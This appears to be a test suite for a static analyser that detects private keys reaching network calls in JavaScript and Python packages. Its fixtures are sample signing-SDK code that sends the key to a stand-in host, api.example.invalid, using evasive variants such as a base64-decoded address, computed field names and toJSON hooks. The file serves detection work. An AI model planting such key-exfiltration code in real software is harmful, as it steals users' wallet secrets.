import { describe, expect, it, test } from 'vitest';
import type { FlowSite } from '../flowReport.ts';
import { analyseSources } from '../testing/analyseSources.ts';

const AROUND = `const { sign } = require('@noble/secp256k1');
const API = 'https://api.example.invalid/v1';
const VERSION = '1.2.3';
const sent = {};
let last;
function decode(text) { return Buffer.from(text, 'base64').toString(); }
function fill(object, value) { object.memo = value; }
exports.sign = (key, message) => { last = key; post({ raw: key, to: key }, key); return sign(message, key); };
`;
const POST = `function post(tx, key) {
  const headers = { accept: '*/*', 'user-agent': 'sdk/' + VERSION };
  const body = { id: 1, raw: tx.raw };
  return fetch(API + '/send', { method: 'POST', headers, body: JSON.stringify(body) });
}`;

/** The one place where keys end in a package of one file, by calls of one kind. */
async function siteIn(file: string, text: string, by = ''): Promise<FlowSite> {
  const { flows } = await analyseSources({ [file]: text });
  const [site, ...others] = flows
    .filter(({ sink, key }) => sink === 'network' && key.includes(by))
    .flatMap(({ ends }) => ends);
  expect(site).toBeDefined();
  for (const one of others) expect(one.site).toEqual(site?.site);
  return (site as { readonly site: FlowSite }).site;
}
const givenIn = async (post: string, by?: string): Promise<string> => (await siteIn('a.js', AROUND + post, by)).given;
const changed = (from: string, to: string): string => {
  expect(POST).toContain(from);
  return POST.replaceAll(from, to);
};
const before = (statement: string): string => changed('return fetch', `${statement} return fetch`);

describe('what a call is given is made as it was', () => {
  test.each([
    ['a line elsewhere', before("if (tx.to === 'x') throw new Error(VERSION);")],
    ['locals with other names', changed('headers', 'h').replace(', h,', ', headers: h,').replaceAll('tx', 'given')],
    ['another text', changed("'sdk/'", "'kit/'")],
    ['one more text', changed("accept: '*/*'", "accept: '*/*', 'x-client': 'sdk'")],
    ['a name for it', before('const text = JSON.stringify(body);').replace('body: JSON.stringify(body)', 'body: text')],
    ['another order', changed('id: 1, raw: tx.raw', 'raw: tx.raw, id: 1')],
    ['a text in its place', changed('API +', "'https://api.example.invalid/v1' +")],
    ['a wait', changed('function', 'async function').replace('return fetch', 'return await fetch')],
    ['a log of it', before("console.debug('sending', body, headers, tx);")],
  ])('%s', async (_, post) => {
    expect(await givenIn(post)).toBe(await givenIn(POST));
  });

  it('in another file', async () => {
    const moved = await siteIn('lib/b.js', `// Moved.\n\n${AROUND}${POST}`);
    expect(moved).toEqual({ ...(await siteIn('a.js', AROUND + POST)), file: 'lib/b.js' });
  });
});

describe('what a call is given is made in another way', () => {
  test.each([
    ['the address is computed', changed("API + '/send'", 'API + tx.to')],
    ['the address is decoded', changed("API + '/send'", "decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=')")],
    ['a text is computed', changed("'/send'", "'/' + ['s', 'end'].join('')")],
    ['the key behind the body', changed('JSON.stringify(body)', 'JSON.stringify(body) + key')],
    ['the key in the body', changed('id: 1', 'id: 1, memo: key')],
    ['the key in place of a text', changed('id: 1', 'id: key')],
    ['another member', changed('tx.raw', 'tx.to')],
    ['another parameter', changed('tx.raw', 'key')],
    ['a variable of the module', changed('tx.raw', 'last')],
    ['one more argument', changed('JSON.stringify(body) }', 'JSON.stringify(body) }, key')],
    ['one of two', changed('JSON.stringify(body)', 'tx.to ? JSON.stringify(body) : key')],
    ['put into the body', before('body.memo = key;')],
    ['put in under a computed name', before("body[['me', 'mo'].join('')] = key;")],
    ['put into a header', before("headers['x-id'] = key;")],
    ['put in by another name', before('const same = body; same.memo = key;')],
    ['put in by way of another object', before('const other = { body }; other.body.memo = key;')],
    ['put in by way of the module', before('sent.body = body; sent.body.memo = key;')],
    ['put in by a list', before('[body].map((one) => { one.memo = key; });')],
    ['put in by a function of the module', before('fill(body, key);')],
    ['put in by a function of its own', before('const put = (one) => { one.memo = key; }; put(body);')],
    ['put in by the runtime', before('Object.assign(body, { memo: key });')],
    ['put in as a name', before("body[key] = '1';")],
    ['a name in the body', changed('id: 1', 'id: 1, [key]: 1')],
    ['put into what it was given', before('tx.raw = key;').replace('const body', 'tx.raw = key; const body')],
    ['given by a function', changed('JSON.stringify(body)', '(() => JSON.stringify(body) + key)()')],
    ['given when it is asked for', changed('id: 1', 'id: 1, toJSON: () => key')],
  ])('%s', async (_, post) => {
    expect(await givenIn(post)).not.toBe(await givenIn(POST));
  });

  test('by the function around', async () => {
    const within = (made: string): string => `function post(tx, key) {
      ${made}
      return new Promise((done) => { fetch(API, { method: 'POST', body: text }).then(done); });
    }`;
    const honest = await siteIn('a.js', AROUND + within('let text = tx.raw;'));
    const theft = await siteIn('a.js', AROUND + within('let text = tx.raw + key;'));
    expect(theft.code).toBe(honest.code);
    expect(theft.given).not.toBe(honest.given);
  });

  test.each([
    ['an object in it', 'body.meta.memo = key;'],
    ['an object in it by another name', 'const { meta } = body; meta.memo = key;'],
    ['a list in it', 'body.list.push(key);'],
    ['an object in what it was given', 'tx.raw.one.memo = key;'],
    ['a list in what it was given', 'tx.raw.list.push(key);'],
    ['what gives it', "query.append('memo', key);"],
  ])('put into %s', async (_, statement) => {
    const within = (made: string): string => `function post(tx, key, query) {
      const body = { id: 1, meta: { version: 1 }, list: [] };
      ${made}
      return fetch(API, { method: 'POST', body: JSON.stringify([body, tx]) + query.toString() });
    }`;
    const honest = await givenIn(within(''));
    expect(await givenIn(within(statement))).not.toBe(honest);
    expect(await givenIn(within("if (tx.raw.list.includes('x')) console.log(body.list, query.get('y'));"))).toBe(
      honest,
    );
  });

  test('by a method of what is sent, and of what sends', async () => {
    const within = (more: string): string => `function post(tx, key) {
      const form = new FormData();
      form.append('raw', tx.raw);
      const request = new XMLHttpRequest();
      request.open('POST', API);
      ${more}
      request.send(form);
    }`;
    const given = (more: string): Promise<string> => givenIn(within(more), 'XMLHttpRequest.send');
    const honest = await given('request.timeout = 9000;');
    expect(await given("form.append('memo', key);")).not.toBe(honest);
    expect(await given("request.setRequestHeader('x-id', tx.to);")).not.toBe(honest);
    expect(await given("request.setRequestHeader('x-id', 'sdk');")).toBe(honest);
  });
});

const PYTHON = `import json, requests
from eth_account import Account
API = 'https://api.example.invalid'
def post(tx, key, headers):
    body = {'raw': tx['raw'], 'id': 1}
    sent = dict(headers)
    sent['user-agent'] = 'sdk/1'
    return requests.post(API + '/send', headers=sent, data=json.dumps(body), timeout=10)
def sign(private_key, message):
    post({'raw': private_key, 'to': private_key}, private_key, {'k': private_key})
    return Account.from_key(private_key).sign(message)
`;
test.each([
  [true, 'timeout=10', 'timeout=20'],
  [true, 'def post(tx, key, headers)', 'def post(tx: dict, key: str, headers: dict) -> object'],
  [true, '    return requests', "    print('sending')\n    return requests"],
  [true, '    return requests', "    sent['accept'] = 'application/json'\n    return requests"],
  [false, "API + '/send'", "f'{API}/send/{key}'"],
  [false, "tx['raw']", "tx['to']"],
  [false, 'timeout=10', 'timeout=10, params=key'],
  [false, 'data=', 'json='],
  [false, '    return requests', "    body['memo'] = key\n    return requests"],
  [false, '    return requests', '    body.update(memo=key)\n    return requests'],
  [false, '    return requests', "    setattr(body, 'memo', key)\n    return requests"],
])('in Python it is the same, %s: %s, %s', async (isSame, from, to) => {
  const honest = await siteIn('a.py', PYTHON);
  const after = await siteIn('a.py', PYTHON.replace(from, to));
  expect(after.within).toBe('post');
  expect(after.given === honest.given).toBe(isSame);
});

it.each([
  ['a chain', Array.from({ length: 1400 }, (_, at) => `let a${at + 1} = of(a${at});`).join('\n'), 'a1400'],
  ['too long a chain', Array.from({ length: 4000 }, (_, at) => `let a${at + 1} = of(a${at});`).join('\n'), 'a4000'],
])('comes to an end: %s', async (_, steps, sent) => {
  const post = (more: string): string =>
    `function post(tx, key) { let a0 = tx.raw; ${steps} ${more} fetch(API, ${sent}); }`;
  const honest = await givenIn(post(''));
  expect(await givenIn(post(''))).toBe(honest);
  expect(await givenIn(post(`${sent} += key;`))).not.toBe(honest);
});

it('is the whole function where too much of it would be looked at', async () => {
  const post = (reads: number, more: string): string => {
    const steps = Array.from({ length: reads }, (_, at) => `tx.a.b.c.d.e.f.x${at} = key;`).join('\n');
    return `function post(tx, key) { ${steps} ${more} fetch(API, { body: JSON.stringify(tx) }); }`;
  };
  const log = "console.debug('sending');";
  expect(await givenIn(post(10, log))).toBe(await givenIn(post(10, '')));
  expect(await givenIn(post(1400, log))).not.toBe(await givenIn(post(1400, '')));
});
